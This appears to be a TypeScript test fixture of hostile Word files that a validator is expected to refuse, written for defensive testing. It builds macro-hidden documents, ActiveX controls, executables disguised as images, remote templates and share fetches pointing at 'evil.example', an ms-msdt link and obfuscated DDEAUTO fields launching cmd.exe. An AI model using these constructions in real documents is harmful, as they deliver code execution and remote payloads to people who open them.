import type { Hostile } from './hostile.ts'
import { fieldMark, instruction, office, override, paragraph, relate, wordBody } from './office.ts'

const field = (...pieces: string[]) =>
  wordBody(
    paragraph(
      [fieldMark('begin'), ...pieces.map(instruction), fieldMark('separate'), fieldMark('end')].join(''),
    ),
  )
const withBody =
  (body: string | Buffer): Hostile['bytes'] =>
  () =>
    office({ body })
const macro = 'application/vnd.ms-office.vbaProject'

/** Word files that run or fetch something. */
export const wordTricks: Hostile[] = [
  {
    what: 'a Word file with macros under an innocent name',
    name: 'plan.docx',
    refused: 'macros',
    bytes: () =>
      office({
        parts: [{ name: 'word/vbaProject.bin', data: 'x' }],
        overrides: override('word/vbaProject.bin', macro),
      }),
  },
  {
    what: 'a .docm renamed',
    name: 'plan.docx',
    refused: 'macros',
    bytes: () => office({ type: 'application/vnd.ms-word.document.macroEnabled.main+xml' }),
  },
  {
    what: 'macros under another name, told by their type alone',
    name: 'plan.docx',
    refused: 'macros',
    bytes: () =>
      office({
        parts: [{ name: 'word/media/a.dat', data: 'x' }],
        overrides: override('word/media/a.dat', macro),
      }),
  },
  {
    what: 'an ActiveX control',
    name: 'form.docx',
    refused: 'macros',
    bytes: () => office({ parts: [{ name: 'word/activeX/activeX1.xml', data: '<ax/>' }] }),
  },
  {
    what: 'an embedded object',
    name: 'object.docx',
    refused: 'holds other files',
    bytes: () => office({ relations: relate('oleObject', 'embeddings/oleObject1.bin') }),
  },
  {
    what: 'an old Office file within, under the name of a picture',
    name: 'inside.docx',
    refused: 'holds other files',
    bytes: () =>
      office({ parts: [{ name: 'word/media/image1.png', data: Buffer.from('d0cf11e0a1b11ae1', 'hex') }] }),
  },
  {
    what: 'a program within, under the name of a picture',
    name: 'program.docx',
    refused: 'holds other files',
    bytes: () => office({ parts: [{ name: 'word/media/image1.png', data: 'MZ\x90\0' }] }),
  },
  {
    what: 'a page of HTML taken in as a part',
    name: 'chunk.docx',
    refused: 'holds other files',
    bytes: () => office({ relations: relate('aFChunk', 'chunk.xml') }),
  },
  {
    what: 'a template from an address',
    name: 'template.docx',
    refused: 'fetches from outside',
    bytes: () => office({ relations: relate('attachedTemplate', 'http://evil.example/a.dotm', 'External') }),
  },
  {
    what: 'a template from an address, spelt with the numbers of its letters',
    name: 'spelt.docx',
    refused: 'fetches from outside',
    bytes: () =>
      office({ relations: relate('attachedTemplate', '&#104;ttp://evil.example/a.dotm', '&#69;xternal') }),
  },
  {
    what: 'a relation that says twice where it leads',
    name: 'double.docx',
    refused: 'fetches from outside',
    bytes: () =>
      office({
        relations: `<Relationship Id="r1" Type="http://x/relationships/image" xmlns:y="y" Target="http://evil.example/a.png" TargetMode="External" y:TargetMode="Internal"/>`,
      }),
  },
  {
    what: 'a picture that is fetched from a share',
    name: 'share.docx',
    refused: 'fetches from outside',
    bytes: () => office({ relations: relate('image', '\\\\evil.example\\share\\a.png', 'External') }),
  },
  {
    what: 'a link that opens a tool of Windows',
    name: 'tool.docx',
    refused: 'fetches from outside',
    bytes: () => office({ relations: relate('hyperlink', 'ms-msdt:/id PCWDiagnostic', 'External') }),
  },
  {
    what: 'a field that starts a program',
    name: 'dde.docx',
    refused: 'runs something',
    bytes: withBody(field('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe')),
  },
  {
    what: 'the same, cut into pieces',
    name: 'cut.docx',
    refused: 'runs something',
    bytes: withBody(field(' D', 'D', 'E "cmd" ')),
  },
  {
    what: 'the same, in numbers',
    name: 'quote.docx',
    refused: 'runs something',
    bytes: withBody(field(' QUOTE 68 68 69 65 85 84 79 ')),
  },
  {
    what: 'the same, as one piece',
    name: 'simple.docx',
    refused: 'runs something',
    bytes: withBody(wordBody('<w:p><w:fldSimple w:instr="DDE &quot;cmd&quot;"/></w:p>')),
  },
]
